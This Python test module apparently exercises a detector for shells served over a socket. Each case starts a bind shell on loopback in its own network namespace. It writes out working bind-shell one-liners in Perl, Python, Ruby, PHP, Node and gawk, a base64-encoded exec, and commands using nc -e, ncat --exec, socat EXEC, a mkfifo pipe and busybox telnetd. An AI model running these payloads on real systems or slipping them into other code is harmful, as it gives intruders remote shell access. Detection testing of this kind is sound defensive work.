"""Shells offered on a port, in the ways in which it is done. Each is in a network namespace of its own, on loopback."""

from __future__ import annotations

import base64
import os
from pathlib import Path

from tests.zoo.cases import Case
from tests.zoo.den import Den, program, word
from tests.zoo.hostile_files import write

CLIENT = """import socket, sys, time
made = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
time.sleep(300)
"""
ACCEPT = """import os, socket, sys
made = socket.create_server(("127.0.0.1", int(sys.argv[1])))
while True:
    one, _ = made.accept()
    if os.fork() == 0:
        for number in range(3):
            os.dup2(one.fileno(), number)
        os.execv("/bin/sh", ["sh"])
    one.close()
"""
HANDS_OVER = ACCEPT.replace("    if os.fork() == 0:\n", "    if True:\n")
PERL = (
    "use Socket;socket(S,PF_INET,SOCK_STREAM,6);setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1);"
    'bind(S,sockaddr_in({port},inet_aton("127.0.0.1")));listen(S,3);for(;accept(C,S);close C)'
    '{{if(!fork){{open STDIN,">&C";open STDOUT,">&C";open STDERR,">&C";exec"/bin/sh -i"}}}}'
)
PYTHON = (
    "import socket,os,pty;s=socket.socket();s.bind(('127.0.0.1',{port}));s.listen(1);c,a=s.accept();"
    "[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
)
RUBY = (
    's=TCPServer.new("127.0.0.1",{port});while(c=s.accept);while(l=c.gets);IO.popen(l,"r"){{|o|c.print o.read}};end;end'
)
PHP = (
    '$s=stream_socket_server("tcp://127.0.0.1:{port}");while($c=stream_socket_accept($s,300))'
    '{{proc_open("/bin/sh -i",[$c,$c,$c],$p);}}'
)
NODE = (
    "require('net').createServer(c=>{{const s=require('child_process').spawn('/bin/sh',[]);"
    "c.pipe(s.stdin);s.stdout.pipe(c);s.stderr.pipe(c)}}).listen({port},'127.0.0.1')"
)
GAWK = (
    'BEGIN{{s="/inet/tcp/{port}/0/0";while(1){{do{{printf "> "|&s;s|&getline c;if(c){{while((c|&getline)>0)'
    'print $0|&s;close(c)}}}}while(c!="exit");close(s)}}}}'
)


def _runs(den: Den, *command: str) -> int:
    port = den.port()
    program(command[0])
    den.start(*(word.replace("{port}", str(port)).replace("{{", "{").replace("}}", "}") for word in command))
    return den.ready(port)


def _connected(den: Den, port: int) -> int:
    """With a client of our own on loopback, until there is a shell for it."""
    before = _shells(den)
    den.start("/usr/bin/python3", write(den.folder("/opt"), "c.py", CLIENT), port)
    den.wait(lambda: _shells(den) > before, "a shell for the connection")
    return port


def _shells(den: Den) -> int:
    """How many shells below this den read from a socket."""
    found, family = 0, [den.pid]
    while family:
        pid = family.pop()
        family += den.children(pid)
        try:
            reads = os.readlink(f"/proc/{pid}/fd/0")
            name = Path(f"/proc/{pid}/comm").read_text().strip()
        except OSError:
            continue
        found += reads.startswith("socket:") and name in ("sh", "bash", "dash")
    return found


def netcat(den: Den) -> int:
    return _runs(den, "nc.traditional", "-l", "-p", "{port}", "-s", "127.0.0.1", "-e", "/bin/sh")


def script_connected(den: Den) -> int:
    port = den.port()
    den.start("/usr/bin/python3", write(den.folder("/opt"), "s.py", ACCEPT), port)
    return _connected(den, den.ready(port))


def hands_its_own_process_over(den: Den) -> int:
    """The process that listens becomes the shell, and keeps the listening socket."""
    port = den.port()
    text = HANDS_OVER.replace("one.close()", "pass")
    text = text.replace("while True:", "os.set_inheritable(made.fileno(), True)\nwhile True:")
    den.start("/usr/bin/python3", write(den.folder("/opt"), "s.py", text), port)
    return _connected(den, den.ready(port))


def ncat(den: Den) -> int:
    return _runs(den, "ncat", "-l", "127.0.0.1", "{port}", "-k", "--exec", "/bin/bash")


def ncat_command(den: Den) -> int:
    return _runs(den, "ncat", "-l", "127.0.0.1", "{port}", "-c", "bash -i 2>&1")


def socat(den: Den) -> int:
    return _runs(den, "socat", "TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork", "EXEC:/bin/bash")


def socat_system(den: Den) -> int:
    return _runs(den, "socat", "TCP-LISTEN:{port},bind=127.0.0.1,reuseaddr,fork", "SYSTEM:bash -li,pty,stderr")


def pipe(den: Den) -> int:
    port = den.port()
    path = den.folder("/opt") / word()
    nc = program("nc.openbsd")
    den.start("sh", "-c", f"mkfifo {path}; cat {path} | /bin/sh -i 2>&1 | {nc} -l 127.0.0.1 {port} > {path}")
    return den.ready(port)


def telnetd(den: Den) -> int:
    return _runs(den, "busybox", "telnetd", "-F", "-b", "127.0.0.1", "-p", "{port}", "-l", "/bin/sh")


def inline_python(den: Den) -> int:
    return _runs(den, "python3", "-c", PYTHON)


def inline_python_encoded(den: Den) -> int:
    port = den.port()
    code = f"import socket\ns=socket.create_server(('127.0.0.1',{port}))\nwhile 1: s.accept()\n"
    den.start("python3", "-c", f"import base64;exec(base64.b64decode('{base64.b64encode(code.encode()).decode()}'))")
    return den.ready(port)


def inline_perl(den: Den) -> int:
    return _runs(den, "perl", "-e", PERL)


def inline_ruby(den: Den) -> int:
    return _runs(den, "ruby", "-rsocket", "-e", RUBY)


def inline_php(den: Den) -> int:
    return _runs(den, "php", "-r", PHP)


def inline_node(den: Den) -> int:
    return _runs(den, "node", "-e", NODE)


def inline_gawk(den: Den) -> int:
    return _runs(den, "gawk", GAWK)


CASES: tuple[Case, ...] = tuple(
    Case(name=start.__name__.replace("_", "-"), start=start, alone=True)
    for start in (
        netcat,
        script_connected,
        hands_its_own_process_over,
        ncat,
        ncat_command,
        socat,
        socat_system,
        pipe,
        telnetd,
        inline_python,
        inline_python_encoded,
        inline_perl,
        inline_ruby,
        inline_php,
        inline_node,
        inline_gawk,
    )
)
